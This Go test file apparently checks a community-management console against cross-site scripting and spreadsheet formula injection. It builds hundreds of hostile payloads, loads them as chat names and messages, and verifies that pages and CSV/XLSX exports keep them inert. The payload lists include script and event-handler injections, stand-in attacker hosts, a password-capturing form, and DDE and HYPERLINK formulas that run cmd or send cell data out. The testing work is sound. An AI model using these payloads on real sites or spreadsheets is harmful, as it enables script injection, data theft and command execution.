package app_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"

	"qunluo/internal/community"
	"qunluo/internal/console"
)

// Where a payload breaks out of, and what it then carries. M stands for its mark: by it the payload is found again on a page.
var (
	breakouts = []string{"", `">`, `'>`, "`>", `</textarea>`, `</title>`, `</script>`, `--><!--`, `]]>`, `</bdi></td>`, `" `, `' `, `\">`, `{{`, "\u202e", "\u200b<b>"}
	carriers  = []string{
		`<script>alert("M")</script>`, `<SCRIPT SRC=//x.example/M></SCRIPT>`, `<scr<script>ipt>alert('M')</script>`, `<img src=x onerror=alert("M")>`, `<img/src=M onerror=alert(1)//`, `<svg onload=alert("M")>`, `<svg/onload=M()>`,
		`<svg><script>M</script></svg>`, `<math><mi xlink:href="javascript:M">x</mi></math>`, `<iframe srcdoc="<script>M</script>">`, `<iframe src=javascript:M>`, `<object data="javascript:M">`, `<embed src=M>`, `<base href="//M.example/">`,
		`<meta http-equiv=refresh content="0;url=//M.example">`, `<link rel=stylesheet href=//M.example>`, `<style>@import"//M.example"</style>`, `<a href="javascript:alert('M')">x</a>`, `<a href=JaVaScRiPt:M>x</a>`, "<a href=\"java\tscript:M\">x</a>", `<a href="data:text/html,M">x</a>`,
		`<form action=//M.example><input name=password></form>`, `<button formaction="javascript:M">x</button>`, `<input autofocus onfocus=alert("M")>`, `<details open ontoggle=M()>`, `<video><source onerror="M"></video>`, `<body onload=M>`, `<marquee onstart=M>`, `<template><script>M</script></template>`,
		`<noscript><p title="</noscript><img src=x onerror=M>">`, `onmouseover=alert("M") x=`, `autofocus onfocus=M() `, `style=background:url(//M.example) `, `javascript:alert("M")`, `&lt;script&gt;M&lt;/script&gt;`, `&#60;img src=x onerror=M&#62;`, `%3Cscript%3EM%3C/script%3E`, `\u003cscript\u003eM`,
	}
	// handmade are forms that fit no grammar.
	handmade = []string{
		`'-alert("M")-'`, `";alert('M');//`, `${alert("M")}`, `#{M}`, `<%= M %>`, `{{constructor.constructor('M')()}}`, `x" hx-get="//M.example" hx-trigger="load`, `<div hx-get="//M.example" hx-trigger=load>`, `<p x-data x-init="M">`, `<p @click="M">`, `<p :class="M">`,
		`<!--M-->`, `<![CDATA[M]]>`, `<?xml M?>`, `<!DOCTYPE M>`, `</body></html>M`, `<plaintext>M`, `<xmp>M`, `<textarea>M`, `<title>M`, "<img src=x\nonerror\n=\nM>", "<\x01script>M", `<svg><animate onbegin=M attributeName=x>`, `<select><option>M`, `<table><td background="javascript:M">`,
		`](javascript:M)`, `[x](javascript:M)`, `![x](//M.example)`, "```\n<script>M</script>", `＜script＞M＜/script＞`, `<ｓcript>M`, `<ſcript>M`, `<a href="//M.example" target=_blank>`, `<a ping=//M.example href=/>`, `<use href="data:image/svg+xml,M#x">`, `<foreignObject><body onload=M>`, `<input type=hidden name=_token value=M>`, `" popovertarget="M`, `<dialog open>M`, `<slot name=M>`,
	}
	// formulas are cells that a spreadsheet would calculate.
	formulas = []string{"=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", `=HYPERLINK("http://x.example/?"&A1,"x")`, `=IMPORTXML("http://x.example","//a")`, "=\n1", `=1+1";x`, `=DDE("cmd";"/C calc";"x")`}
)

// payload is a hostile text: the mark by which it is found, and what stands before the mark.
type payload struct{ text, mark, before string }

// corpus makes every payload, each with a mark of its own.
func corpus() []payload {
	var texts []string
	for _, b := range breakouts {
		for _, c := range carriers {
			texts = append(texts, b+c)
		}
	}
	texts = append(texts, handmade...)
	out := make([]payload, len(texts))
	for i, text := range texts {
		mark := fmt.Sprintf("qlx%04dz", i)
		out[i] = payload{strings.ReplaceAll(text, "M", mark), mark, plainly(text[:strings.Index(text, "M")])}
	}
	return out
}

// plainly keeps of a text what every page shows as it is: printable ASCII but blanks.
func plainly(s string) string {
	return strings.Map(func(r rune) rune {
		if r > ' ' && r < 0x7f {
			return r
		}
		return -1
	}, s)
}

// signs are what pages show in the place of characters that nobody sees.
var signs = regexp.MustCompile(`⟦[0-9A-F]{4,6}⟧`)

var markForm = regexp.MustCompile(`qlx([0-9]{4})z`)

// jury looks at pages: no payload may have become an element, an attribute, a script or a comment.
type jury struct {
	faults []string
	home   string // where the pages stand: links to it lead home
	corpus []payload
	seen   map[string]bool // marks that were found somewhere
	pages  int             // pages with at least one
}

func (j *jury) fault(format string, args ...any) {
	j.faults = append(j.faults, fmt.Sprintf(format, args...))
}

// judge parses a page as a browser does, and looks at every node.
func (j *jury) judge(path, page string) {
	if strings.Contains(page, "qlx") {
		j.pages++
	}
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		j.fault("%s: %v", path, err)
		return
	}
	for n := range root.Descendants() {
		switch n.Type {
		case html.ElementNode:
			j.element(path, n)
		case html.CommentNode, html.DoctypeNode:
			if strings.Contains(n.Data, "qlx") {
				j.fault("%s: a payload is a comment: %.200q", path, n.Data)
			}
		case html.TextNode:
			j.text(path, "text", n.Data, n)
		}
	}
}

// addresses are the attributes that lead somewhere.
var addresses = []string{"href", "src", "action", "formaction", "srcset", "data", "poster", "background", "xlink:href", "ping", "hx-get", "hx-post", "hx-put", "hx-delete", "sse-connect", "manifest", "cite", "srcdoc", "http-equiv"}

func (j *jury) element(path string, n *html.Node) {
	for _, a := range n.Attr {
		name := strings.ToLower(a.Key)
		switch {
		case strings.HasPrefix(name, "on") || name == "style" || name == "srcdoc" || name == "ping" || strings.HasPrefix(name, "x-init") || strings.HasPrefix(name, "@"):
			j.fault("%s: <%s %s=%.120q>", path, n.Data, a.Key, a.Val)
		case strings.Contains(name, "qlx") || strings.ContainsAny(name, `<"'`+"`"):
			j.fault("%s: a payload is an attribute's name: <%s %s>", path, n.Data, a.Key)
		case slices.Contains(addresses, name) && !leadsHome(strings.TrimPrefix(a.Val, j.home)):
			j.fault("%s: <%s %s=%.120q> leads away", path, n.Data, a.Key, a.Val)
		}
		j.text(path, n.Data+" "+a.Key, a.Val, nil)
	}
	switch n.Data {
	case "iframe", "object", "embed", "base", "math", "style", "marquee", "template", "plaintext", "xmp", "video", "audio", "foreignobject", "noscript", "frame", "applet", "animate":
		j.fault("%s: a page of ours has no <%s>", path, n.Data)
	case "script":
		j.script(path, n)
	}
}

// leadsHome reports whether an address stays on the server, shows a picture that stands in the page itself, or nothing.
func leadsHome(to string) bool {
	u, err := url.Parse(to)
	return err == nil && u.Scheme == "" && u.Host == "" && !strings.HasPrefix(to, "//") && !strings.Contains(to, "\\") || strings.HasPrefix(to, "data:image/png;base64,") || to == "data:,"
}

// script allows files of ours, and data that no browser runs.
func (j *jury) script(path string, n *html.Node) {
	kind, src := "", ""
	for _, a := range n.Attr {
		switch a.Key {
		case "type":
			kind = a.Val
		case "src":
			src = a.Val
		}
	}
	inside := ""
	if n.FirstChild != nil {
		inside = n.FirstChild.Data
	}
	if strings.HasPrefix(src, "/static/") && inside == "" || kind == "application/json" && src == "" && json.Valid([]byte(inside)) {
		return
	}
	j.fault("%s: <script type=%q src=%q>%.120s", path, kind, src, inside)
}

// text looks at each mark in what people read: all that stands before it in the payload must stand before it here, too. A payload that was
// taken apart by the browser has lost its beginning. Parts of a text may stand in elements of their own (marked words): then those around
// are looked at.
func (j *jury) text(path, where, s string, n *html.Node) {
	for _, m := range markForm.FindAllStringSubmatch(s, -1) {
		i, err := strconv.Atoi(m[1])
		if err != nil || i >= len(j.corpus) {
			continue
		}
		p := j.corpus[i]
		j.seen[p.mark] = true
		whole := said(s)
		for up := n; up != nil && !strings.Contains(whole, p.before+p.mark) && up != nil; up = up.Parent {
			whole = said(inner(up))
			if up.Type == html.ElementNode && slices.Contains([]string{"td", "li", "div", "body"}, up.Data) {
				break
			}
		}
		if !strings.Contains(whole, p.before+p.mark) {
			j.fault("%s: in %s the payload %.80q has lost its beginning: %.160q", path, where, p.text, s)
		}
	}
}

// said gives a text as it is meant: out of JSON and addresses, without what pages show as signs.
func said(s string) string {
	s = signs.ReplaceAllString(s, "")
	out := plainly(s)
	if strings.Contains(s, `\u003c`) || strings.Contains(s, `\"`) {
		out += " " + plainly(strings.NewReplacer(`\u003c`, "<", `\u003e`, ">", `\u0026`, "&", `\u0027`, "'", `\"`, `"`, `\n`, "", `\t`, "", `\\`, `\`).Replace(s))
	}
	if q, err := url.QueryUnescape(s); err == nil {
		out += " " + plainly(q)
	}
	return out
}

// inner is the text within an element.
func inner(n *html.Node) string {
	var b strings.Builder
	if n.Type == html.TextNode {
		b.WriteString(n.Data)
	}
	for d := range n.Descendants() {
		if d.Type == html.TextNode {
			b.WriteString(d.Data)
		}
	}
	return b.String()
}

// TestJuryFindsWhatBecomesMarkup: the check itself can fail.
func TestJuryFindsWhatBecomesMarkup(t *testing.T) {
	all := corpus()
	if len(all) < 500 {
		t.Fatalf("%d payloads, want 500", len(all))
	}
	missed := 0
	for _, p := range all {
		j := &jury{corpus: all, seen: map[string]bool{}}
		j.judge("/", `<!doctype html><body><table><tr><td title="x"><bdi>`+p.text+`</bdi></td></tr></table><p title="`+p.text+`"></p><a title='`+p.text+`'></a></body>`)
		if len(j.faults) == 0 {
			missed++
		}
		j = &jury{corpus: all, seen: map[string]bool{}}
		j.judge("/", `<!doctype html><body><p title="`+html.EscapeString(p.text)+`"><bdi>`+html.EscapeString(p.text)+`</bdi></p></body>`)
		if len(j.faults) > 0 {
			t.Errorf("escaped, and caught: %q: %s", p.text, j.faults[0])
		}
	}
	if missed > len(all)/5 {
		t.Errorf("%d of %d payloads are not caught when a page does not escape them", missed, len(all))
	}
	t.Logf("%d payloads, %d caught where a page does not escape", len(all), len(all)-missed)
}

// hostileStory writes a history of one group in which everybody's name, everything said and the group itself is hostile.
func hostileStory(t *testing.T, name string, all []payload) string {
	t.Helper()
	var b bytes.Buffer
	line := func(v any) {
		raw, err := json.Marshal(v)
		check(t, err)
		b.Write(append(raw, '\n'))
	}
	line(map[string]any{"_type": "header", "chatlab": map[string]any{"version": "0.0.2", "exportedAt": 1767225600}, "meta": map[string]any{"name": "=1+1 " + name + all[3].text, "platform": "wechat", "type": "group", "groupId": name + "@chatroom"}})
	start := time.Now().Add(-72 * time.Hour).Unix()
	for i, p := range all {
		line(map[string]any{"_type": "message", "platformMessageId": fmt.Sprint(name, i), "sender": fmt.Sprint(name, "-u", i), "accountName": p.text, "groupNickname": all[(i+7)%len(all)].text, "timestamp": start + int64(60*i), "type": 0, "content": all[(i+1)%len(all)].text + "？"})
	}
	path := filepath.Join(t.TempDir(), name+".jsonl")
	check(t, os.WriteFile(path, b.Bytes(), 0o600))
	return path
}

// outside is an address of a page for members.
var outside = regexp.MustCompile(`/([acdgijlpqrstvy]|draw|live)/[-_0-9A-Za-z]{6,}`)

// TestHostileTextStaysText brings the corpus in as names, cards, words and the group's own name, lets people use it in everything that
// pages show, and looks at every page of the console, all the pages of its lists, the pages for members that they lead to, and what leaves as a file.
func TestHostileTextStaysText(t *testing.T) {
	e := openEstate(t, "")
	ctx, all := t.Context(), corpus()
	var sums []payload // few enough that a list of them leaves without a second person
	for range 3 {
		for _, f := range formulas {
			sums = append(sums, payload{text: f})
		}
	}
	login := fmt.Sprintf("owner%d", e.org)
	_, _, err := e.app.Import(ctx, e.users[login].ID.String(), e.org, console.ImportOrder{}, []string{hostileStory(t, "hostile", all), hostileStory(t, "sheet", sums)}, nil)
	check(t, err)
	check(t, e.app.Store().CatchUp(ctx))
	desk := e.app.Store().For(community.Scope{Org: e.org})
	groups, _, err := desk.FindGroups(ctx, community.GroupFilter{Text: "hostile", Page: community.Page{Limit: 5}})
	check(t, err)
	here := e.equip(groups[0], all[40].text)
	check(t, e.app.Store().CatchUp(ctx))
	j := &jury{home: e.base, corpus: all, seen: map[string]bool{}}
	visitor := e.visit(login)
	out := map[string]bool{} // addresses of pages for members that the console's pages show
	look := func(path string) bool {
		t.Helper()
		status, body := visitor.get(path)
		for _, address := range outside.FindAllString(body, -1) {
			out[address] = true
		}
		if status >= 500 {
			t.Errorf("%s = %d", path, status)
		}
		if !strings.HasPrefix(body, "\x89PNG") { // a picture is no page, whatever its bytes look like
			j.judge(path, body)
		}
		return strings.Contains(body, "qlx")
	}
	g := here.of["groups"]
	for _, need := range e.app.Needs() {
		if !strings.HasPrefix(need.Pattern, "GET ") || strings.Contains(need.Pattern, "{token}") || strings.Contains(need.Pattern, ".csv") || strings.Contains(need.Pattern, ".xlsx") || strings.HasSuffix(need.Pattern, "/live") || need.Pattern == "GET /dev/ui" {
			continue
		}
		path := here.path(need.Pattern, map[string]bool{})
		look(path)
		look(path + "?g=" + g + "&q=" + url.QueryEscape(all[17].text))
	}
	for p := 1; p <= (len(all)+len(formulas))/50+1; p++ {
		look(fmt.Sprintf("/members?g=%s&p=%d", g, p))
	}
	people, _, err := desk.FindMembers(ctx, community.MemberFilter{Group: here.key, Page: community.Page{Limit: 200}})
	check(t, err)
	for _, m := range people[:40] {
		look("/members/" + m.ID.String())
	}
	messages, _, err := desk.FindMessages(ctx, community.MessageFilter{Group: here.key, Limit: 200})
	check(t, err)
	for i := 0; i < len(messages); i += 10 {
		look("/messages/" + g + "/" + strconv.FormatInt(messages[i].Number, 10))
	}
	visitor = newPerson(t, e.base) // nobody: what members see
	kinds := map[string]int{}
	asked := map[string]int{}
	for _, address := range slices.Sorted(maps.Keys(maps.Clone(out))) {
		kind := strings.Split(address, "/")[1]
		if asked[kind]++; asked[kind] <= 20 && look(address) {
			kinds[kind]++
		}
	}
	t.Logf("pages for members by kind: asked %v, with payloads %v", asked, kinds)
	for _, kind := range []string{"live", "r", "v"} { // a live Q&A, a report, a vote
		if kinds[kind] == 0 {
			t.Errorf("no page for members at /%s/ with a payload was found", kind)
		}
	}
	for _, f := range j.faults {
		t.Error(f)
	}
	if j.pages < 90 || len(j.seen) < 500 {
		t.Errorf("payloads were met on %d pages, %d of %d of them: the walk looks at too little", j.pages, len(j.seen), len(all))
	}
	t.Logf("%d of %d payloads met, on %d pages", len(j.seen), len(all), j.pages)
	groups, _, err = desk.FindGroups(ctx, community.GroupFilter{Text: "sheet", Page: community.Page{Limit: 5}})
	check(t, err)
	e.sheets(groups[0].ID.String(), g)
}

// sheets looks at the lists that leave as files: no cell begins as a formula does, and in a workbook none is one.
func (e *estate) sheets(g, other string) {
	e.t.Helper()
	tried := 0
	for _, need := range e.app.Needs() {
		path := strings.TrimPrefix(need.Pattern, "GET ")
		if !strings.HasPrefix(need.Pattern, "GET ") || !strings.HasSuffix(path, ".csv") && !strings.HasSuffix(path, ".xlsx") {
			continue
		}
		ask := "?g=" + g
		if path == "/audit.csv" {
			ask = "?verb=user.save" // of the whole trail it would be more
		}
		if strings.HasPrefix(path, "/compare") {
			ask = "?g1=" + g + "&g2=" + other
		}
		login := fmt.Sprint("sheet", tried) // one person takes no more than a hundred rows out in a day
		_, err := e.app.Store().SaveUser(e.t.Context(), "test", community.User{Org: e.org, Login: login, Name: login, Role: "owner", Lang: "zh-CN", Enabled: true, Hash: console.HashPassword(rightsPassword)}, "=1+1")
		check(e.t, err)
		status, body := e.visit(login).get(path + ask)
		if status != http.StatusOK || strings.HasPrefix(body, "<!doctype") {
			e.t.Errorf("%s = %d %s", path, status, excerpt(body))
			continue
		}
		tried++
		if strings.HasSuffix(path, ".xlsx") {
			e.workbook(path, body)
			continue
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
		if err != nil {
			e.t.Errorf("%s: %v: %.200q", path, err, body)
		}
		for _, row := range rows {
			for _, cell := range row {
				if strings.ContainsAny(firstRune(cell), "=+-@\t\r＝＋－＠") && !figureForm.MatchString(cell) {
					e.t.Errorf("%s: a cell begins as a formula: %.60q", path, cell)
				}
			}
		}
	}
	if tried < 10 {
		e.t.Errorf("%d files: the walk looks at too little", tried)
	}
}

var figureForm = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?%?$`)

func firstRune(s string) string {
	for _, r := range s {
		return string(r)
	}
	return ""
}

func (e *estate) workbook(path, body string) {
	e.t.Helper()
	f, err := excelize.OpenReader(strings.NewReader(body))
	check(e.t, err)
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		check(e.t, err)
		for y, row := range rows {
			for x := range row {
				at, err := excelize.CoordinatesToCellName(x+1, y+1)
				check(e.t, err)
				if formula, err := f.GetCellFormula(sheet, at); err != nil || formula != "" {
					e.t.Errorf("%s: %s is a formula: %q, %v", path, at, formula, err)
				}
			}
		}
	}
}
